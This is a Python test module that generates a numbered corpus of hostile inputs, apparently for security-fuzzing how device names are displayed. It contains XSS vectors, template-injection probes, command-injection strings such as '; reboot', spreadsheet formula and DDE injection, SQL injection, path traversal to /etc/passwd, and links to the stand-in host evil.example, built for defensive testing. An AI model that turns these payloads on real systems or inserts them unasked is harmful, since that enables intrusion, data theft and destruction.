"""What a hostile device would call itself: markup, handlers, templates, invisible marks, formulas, addresses that break.

Rule 1: every payload is bytes, as they would stand in a packet, and carries its number as `q<number>z`, so that it can be
        found again wherever it comes out.
Rule 2: whatever runs asks for attention (`alert`), so that a browser in which one runs says so.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

EVALUATED = str(7191 * 13)  # what a template engine would make of the sums below

_BREAKOUTS = (
    "", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</bdi>", "</option>", "</svg>", "]]>", '"/>',
    "</select>",
    "</style>", "</noscript>", "`>",
)  # fmt: skip
_ELEMENTS = (
    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg onload=alert({n})>",
    "<svg/onload=alert({n})//",
    "<iframe src=javascript:alert({n})></iframe>", "<body onload=alert({n})>", "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})></video>", "<input autofocus onfocus=alert({n})>",
    "<a href=javascript:alert({n})>x</a>",
    "<style>*{{background:url(//evil.example/{n})}}</style>", "<link rel=stylesheet href=//evil.example/{n}>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{n}>", "<base href=//evil.example/>",
    "<form action=//evil.example/{n}><button>x</button></form>", "<object data=//evil.example/{n}></object>",
    "<embed src=//evil.example/{n}>", "<math><mi xlink:href=javascript:alert({n})>x</mi></math>",
    "<marquee onstart=alert({n})>",
    "<template><script>alert({n})</script></template>", "<x hx-get=//evil.example/{n} hx-trigger=load>",
    "<x hx-on:load=alert({n})>", "<!--<img src=--><img src=x onerror=alert({n})//>",
    "<scr<script>ipt>alert({n})</script>",
)  # fmt: skip
_HANDLERS = (
    "onmouseover", "onfocus", "onload", "onerror", "onclick", "onanimationstart", "onpointerenter", "onbeforeinput",
    "onscroll",
    "ontoggle", "onwheel", "oncopy", "onkeydown", "onblur", "style",
)  # fmt: skip
_QUOTES = ('"', "'", "`", "")
_URLS = (
    "javascript:alert({n})", "JaVaScRiPt:alert({n})", "java\tscript:alert({n})", "\x01javascript:alert({n})",
    "data:text/html,<script>alert({n})</script>", "vbscript:alert({n})", "//evil.example/{n}", "/\\evil.example/{n}",
    "http://evil.example/{n}", "https:evil.example", "../../../etc/passwd", "..%2f..%2fetc", "?range=1d&x={n}", "#{n}",
    "%00", "%",
    "a/b/{n}", "a%2fb", ";x={n}", "//", "/", "\\\\evil\\{n}", "file:///etc/passwd", "../login", "{n}?", "&amp;{n}",
)  # fmt: skip
_TEMPLATES = (
    "{{{{7191*13}}}}", "{{%print(7191*13)%}}", "${{7191*13}}", "#{{7191*13}}", "<%= 7191*13 %>",
    "{{{{visit.options}}}}",
    "{{{{''.__class__.__mro__}}}}", "{{% raw %}}", "{{% include '/etc/passwd' %}}",
    "{{{{cycler.__init__.__globals__}}}}",
    "%(n)s %s %d %n", "{{0.__class__}}", "$(id)", "`id`", "|id", "; reboot",
)  # fmt: skip
_FORMULAS = (
    '=HYPERLINK("http://evil.example/{n}")', "=cmd|' /C calc'!A{n}", "+1+{n}", "-1-{n}", "@SUM(1,{n})", "=1+{n}",
    "\t=1+{n}",
    "\r=1+{n}", " =1+{n}", '"=1+{n}', "'=1+{n}", "\n=1+{n}", "=IMPORTXML({n})", "+cmd|{n}", "-2+3+cmd|{n}", "@evil{n}",
    ",=1+{n}",
    '","=1+{n}',
)  # fmt: skip
_QUERIES = (
    "' OR 1=1 --",
    '"; DROP TABLE site; --',
    "') UNION SELECT password FROM account --",
    "%' ESCAPE '",
    "_%",
    "\\'; --",
)
_ENCODED = (
    b"%3Cscript%3Ealert(1)%3C/script%3E", b"&lt;script&gt;alert(1)&lt;/script&gt;",
    b"&#60;img src=x onerror=alert(1)&#62;",
    b"\\u003cscript\\u003ealert(1)", b"\\x3cscript\\x3e", b"+ADw-script+AD4-alert(1)", b"\xc0\xbcscript\xc0\xbe",
    b"\xe0\x80\xbcscript", b"<\x00script>alert(1)", "<script>alert(1)".encode("utf-16-le"), b"\xff\xfe<script>",
    b"\xf4\x90\x80\x80",
    b"\xed\xa0\x80", "\uff1cscript\uff1ealert(1)".encode(), b"\xef\xbb\xbf<script>alert(1)</script>",
    b"<script\x0c>alert(1)</script>",
)  # fmt: skip
_TURNED = (
    *range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0x200B, 0x2010),
    0x061C, 0x00AD, 0x2060, 0xFEFF, 0x2028, 0x2029,
    0x180E, 0xE0041, 0x115F, 0x3164, 0x0301, 0xFFF9, 0xFFFD, 0x2800, 0x05D0, 0x0627, 0x1F468,
)  # fmt: skip
_ANSI = (b"\x1b[31m", b"\x1b]0;evil\x07", b"\x1b[2J", b"\x1bc", b"\x9b31m", b"\x1b[1;1H", b"\x07", b"\x08\x08\x08")
_LONG = (
    b"a" * 240, b"<b>" * 70, b"x" * 63 + b"." + b"y" * 63 + b"." + b"z" * 63, b"." * 60, b"a." * 110, b"&" * 120, b"%" * 240,
    b"\\" * 60, b"'\"" * 100, b" " * 200, b"\xf0\x9f\x92\xa9" * 40, b"<" * 240,
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    """What stands in a packet, and the mark by which it is found again."""

    number: int
    octets: bytes

    @property
    def mark(self) -> str:
        return f"q{self.number}z"


def payloads() -> list[Payload]:
    """All of them, always the same."""
    return [Payload(number, f"q{number}z".encode() + octets) for number, octets in enumerate(_all(), start=1000)]


def _all() -> Iterator[bytes]:
    for number, (way_out, element) in enumerate(product(_BREAKOUTS, _ELEMENTS)):
        yield (way_out + element.format(n=number)).encode()
    for number, (quote, handler) in enumerate(product(_QUOTES, _HANDLERS)):
        yield f"x{quote} {handler}={quote}alert({number}){quote} x={quote}".encode()
    for number, text in enumerate((*_URLS, *_TEMPLATES, *_FORMULAS)):
        yield text.format(n=number).encode()
    yield from (text.encode() for text in _QUERIES)
    yield from _ENCODED
    yield from (f"moc{chr(mark)}elgoog".encode() for mark in _TURNED)
    yield from (b"a" + bytes([sign]) + b"b" for sign in (*range(32), *range(0x7F, 0xA0)))
    yield from _ANSI
    yield from _LONG
